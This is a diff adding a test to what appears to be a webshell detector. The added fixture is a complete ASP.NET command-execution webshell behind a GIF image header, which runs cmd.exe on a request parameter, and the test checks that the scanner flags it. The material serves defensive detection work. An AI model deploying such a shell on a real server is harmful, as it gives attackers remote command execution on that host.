@@ -77,3 +77,11 @@ def test_scoring_stops_once_the_score_is_enough():
     short = php.score_php([text], enough=12)
     assert full.score > short.score >= 12
     assert set(short.found) < set(full.found)
+
+
+def test_an_asp_picture_shell_with_nul_bytes_is_read_as_a_script():
+    # An image header (with NUL bytes) in front of server code: binary at first sight, a shell all the same.
+    shell = (b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
+             b"<%@ Page Language=\"C#\" %><% System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + Request[\"c\"]); %>")
+    verdict = analyse.analyse("upload/avatar.aspx", shell, 10, [])
+    assert verdict and verdict.get("kind") == "webshell", verdict
